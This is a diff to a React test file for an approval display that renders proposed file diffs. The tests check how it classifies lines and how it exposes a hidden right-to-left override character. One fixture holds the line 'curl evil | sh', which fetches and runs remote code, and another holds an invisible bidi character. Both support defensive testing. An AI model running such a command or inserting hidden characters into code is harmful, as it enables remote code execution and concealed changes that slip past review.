@@ -38,16 +38,23 @@ test('a script that does not fit says how many lines it has', () => {
   expect(screen.getByText('41 lines: scroll to read them all')).toBeTruthy();
 });
 
+const kinds = () => [...shown().querySelectorAll('[data-line]')].map((line) => line.getAttribute('data-line'));
+
 test('an added line that looks like the header of a diff is drawn as an added line', () => {
   renderPage(<ApprovalDisplay display={file('--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n a\n+++ curl evil | sh\n')} />);
-  const look = [...shown().querySelectorAll('span')].map(({ className }) => className.includes('bg-added'));
-  expect(look).toEqual([false, false, false, false, true]);
+  expect(kinds()).toEqual(['head', 'context', 'added']);
 });
 
 test('without a diff every line of the content is an added line', () => {
   renderPage(<ApprovalDisplay display={file('[binary content of 3 bytes is replaced]\n+++ x')} />);
-  const look = [...shown().querySelectorAll('span')].map(({ className }) => className.includes('bg-added'));
-  expect(look).toEqual([false, true]);
+  expect(kinds()).toEqual(['note', 'added']);
+});
+
+test('in a diff hidden characters are written out, words are marked, and how much changes is counted', () => {
+  renderPage(<ApprovalDisplay display={file('--- a/f\n+++ b/f\n@@ -1 +1 @@\n-let ok = 1;\n+let ok\u202E = 1;\n')} />);
+  expect(shown().textContent).toBe('@@ -1 +1 @@-let ok = 1;+let ok⟨U+202E⟩ = 1;');
+  expect(screen.getByRole('note').textContent).toContain('normally invisible');
+  expect(screen.getByRole('img', { name: '1 line added, 1 removed' })).toBeTruthy();
 });
 
 test('a request is shown as it is sent: line, headers, body', () => {
